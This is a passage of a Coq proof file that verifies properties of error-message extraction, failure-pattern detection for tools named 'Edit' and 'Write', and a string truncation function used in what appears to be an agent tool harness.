     err <> "") /\
  detectFailurePattern "Edit" err = detectFailurePattern "Write" err /\
  detectFailurePattern tool (ToLower err) = detectFailurePattern tool err /\
  (forall e, asString resp "error" = Some e -> err = e) /\
  (asString resp "error" = None -> err = default "" (asString resp "stderr")).
Proof.
  intros err. split; [|split; [|split; [|split]]].
  - unfold detectFailurePattern.
    case_bool_decide as He; [done|].
    case_bool_decide as H1; [intros _; split; [by left | done]|].
    destruct (bool_decide_reflect (tool = "Write")) as [H2|H2];
      [intros _; split; [right; by left | done]|].
    destruct (bool_decide_reflect (tool = "Edit")) as [H3|H3];
      [intros _; split; [right; right; by left | done]|].
    cbn [orb].
    case_bool_decide as H4; [intros _; split; [by do 3 right | done]|].
    done.
  - done.
  - unfold detectFailurePattern. rewrite ToLower_idem.
    assert (bool_decide (ToLower err = "") = bool_decide (err = "")) as ->; [|done].
    apply bool_decide_ext. destruct err; simpl; naive_solver.
  - intros e He. unfold err, extractErrorMessage. by rewrite He.
  - intros He. unfold err, extractErrorMessage. rewrite He.
    by destruct (asString resp "stderr").
Qed.

Lemma substring_0_length (a b : string) :
  substring 0 (String.length a) (a ++ b)%string = a.
Proof.
  induction a as [|c a IH]; [by destruct b|].
  rewrite append_cons. simpl. by rewrite IH.
Qed.

Lemma substring_0_append (n : nat) (s : string) :
  (n <= String.length s)%nat ->
  exists rest, s = (substring 0 n s ++ rest)%string /\
               String.length (substring 0 n s) = n.
Proof.
  revert s. induction n as [|n IH]; intros s Hn.
  - exists s. by destruct s.
  - destruct s as [|c s]; simpl in Hn; [lia|].
    destruct (IH s) as (rest & Hs & Hl); [lia|].
    exists rest. simpl. rewrite append_cons. split; [by rewrite <- Hs | by rewrite Hl].
Qed.

(** X30. [truncate] returns a text of at most [max] bytes as it is, and
    of a longer one the first [max] bytes followed by three dots, so the
    result has at most [max + 3] bytes and truncating it again gives the
    same text. For a negative [max] the slice expression panics. *)
Theorem truncate_keeps_prefix (s : string) (max : Z) :
  (max < 0 -> truncate s max = None) /\
  (0 <= max ->
   exists t, truncate s max = Some t /\
     (Z.of_nat (String.length s) <= max -> t = s) /\
     (max < Z.of_nat (String.length s) ->
        t = (substring 0 (Z.to_nat max) s ++ "...")%string /\
        Z.of_nat (String.length t) = max + 3) /\
     Z.of_nat (String.length t) <= max + 3 /\
     truncate t max = Some t).
Proof.
  unfold truncate. split.
  - intros Hm. rewrite (proj2 (Z.leb_gt _ _)) by lia.
    by rewrite (proj2 (Z.ltb_lt _ _)).
  - intros Hm.
    assert (Hneg : (max <? 0) = false) by (apply Z.ltb_ge; lia).
    rewrite !Hneg.
    destruct (Z.leb_spec (Z.of_nat (String.length s)) max) as [Hle|Hgt].
    + exists s. split; [done|]. split; [done|]. split; [lia|]. split; [lia|].
      by rewrite (proj2 (Z.leb_le _ _)).
    + destruct (substring_0_append (Z.to_nat max) s) as (rest & Hs & Hl); [lia|].
      set (p := substring 0 (Z.to_nat max) s) in *.
      assert (Hlen : Z.of_nat (String.length (p ++ "...")%string) = max + 3).
      { rewrite length_append, Hl. simpl. lia. }
      eexists. split; [done|]. split; [lia|]. split; [done|]. split; [lia|].
      rewrite (proj2 (Z.leb_gt _ _)) by lia.
      rewrite <- Hl at 1. by rewrite substring_0_length.
Qed.

Lemma truncate_keeps_prefix_witness :
  exists t, truncate "command not found" 7 = Some t /\
    (Z.of_nat (String.length "command not found") <= 7 -> t = "command not found"%string) /\
    (7 < Z.of_nat (String.length "command not found") ->
       t = (substring 0 (Z.to_nat 7) "command not found" ++ "...")%string /\
       Z.of_nat (String.length t) = 7 + 3) /\
    Z.of_nat (String.length t) <= 7 + 3 /\
    truncate t 7 = Some t.
Proof.
  apply (proj2 (truncate_keeps_prefix "command not found" 7)). lia.
Defined.

End GatesTheory.
